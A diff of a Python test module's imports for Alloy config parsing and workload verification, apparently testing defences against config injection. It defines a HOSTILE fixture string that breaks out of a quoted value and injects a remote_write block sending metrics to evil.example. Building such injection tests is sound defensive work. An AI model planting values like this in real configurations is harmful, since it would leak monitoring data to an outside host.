@@ -6,11 +6,12 @@ import dataclasses
 
 import pytest
 
-from fleet.alloy_syntax import Attribute, Block, Call, Expr, Index, Literal, Object, components, parse
-from fleet.alloy_syntax import reference_chain as chain_of
-from fleet.verify import check_workload_alloy
+from fleet.verify.dataflow import check_workload_alloy
+from kit.alloy.parser import parse
+from kit.alloy.syntax import Attribute, Block, Call, Expr, Index, Literal, Object, components
+from kit.alloy.syntax import reference_chain as chain_of
+from kit.alloy.writer import quote
 from workloads.alloy_config import AlloyPipeline, render_alloy_config
-from workloads.alloy_writer import quote
 
 CENTRAL = "https://mimir.ctrl.example.com/api/v1/push"
 HOSTILE = 'evil"}\nprometheus.remote_write "leak" {\n  endpoint { url = "https://evil.example/" }\n}\\'
